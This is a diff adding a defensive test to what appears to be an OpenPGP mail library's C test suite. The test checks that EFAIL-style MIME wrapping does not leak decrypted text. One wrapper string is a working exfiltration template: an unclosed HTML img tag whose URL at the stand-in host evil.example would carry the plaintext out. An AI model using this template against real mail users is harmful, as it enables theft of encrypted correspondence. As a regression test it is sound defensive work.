@@ -295,6 +295,33 @@ START_TEST(attached_key_is_looked_at_once_a_day)
 }
 END_TEST
 
+/* What an attacker writes around ciphertext that he has seen (EFAIL): opened, the URL would carry the text away. */
+static const char *const around[] = {
+    "multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img "
+    "src=\"http://evil.example/\n--m\n%s\n--m\n"
+    "Content-Type: text/html\n\n\">\n--m--\n",
+    "multipart/mixed; boundary=m\n\n--m\n%s\n--m\nContent-Type: text/plain\n\nfooter\n--m--\n",
+    "multipart/alternative; boundary=m\n\n--m\nContent-Type: text/plain\n\nx\n--m\n%s\n--m--\n",
+};
+
+START_TEST(encrypted_part_with_text_around_it_stays_closed)
+{
+    struct span whole = sealed_by_bob(BOB_SIGNS);
+    size_t at = span_find(whole, "Content-Type: multipart/encrypted", 33, 0);
+    ck_assert_uint_ne(at, SIZE_MAX);
+    const char *mark = strstr(around[_i], "%s");
+    const char *head = arena_printf(site->arena, FROM_BOB "MIME-Version: 1.0\nContent-Type: %.*s",
+                                    (int)(mark - around[_i]), around[_i]);
+    struct span text =
+        span_of(arena_printf(site->arena, "%.*s%.*s%.*s", SPAN_ARG(site_crlf(site, head)),
+                             SPAN_ARG(span_sub(whole, at, whole.len)), SPAN_ARG(site_crlf(site, mark + 2))));
+    struct span copy = opened_for_alice(text);
+    ck_assert(!has(copy, "ORCHID"));
+    ck_assert(has(copy, "-----BEGIN PGP MESSAGE-----"));
+    ck_assert_ptr_null(strstr(site_field(site, copy, "Subject", 0), "[secure]"));
+}
+END_TEST
+
 START_TEST(message_that_exchange_has_mangled_is_opened)
 {
     (void)sealed_by_bob(BOB_SIGNS);
@@ -355,6 +382,7 @@ static Suite *make_suite(void)
     tcase_add_test(tc, signature_of_a_key_that_is_not_known_is_not_called_anything);
     tcase_add_test(tc, changed_text_is_told);
     tcase_add_test(tc, attached_key_is_looked_at_once_a_day);
+    tcase_add_loop_test(tc, encrypted_part_with_text_around_it_stays_closed, 0, (int)SEAL_COUNT(around));
     tcase_add_test(tc, message_that_exchange_has_mangled_is_opened);
     tcase_add_test(tc, message_without_its_end_is_not_opened);
     suite_add_tcase(suite, tc);
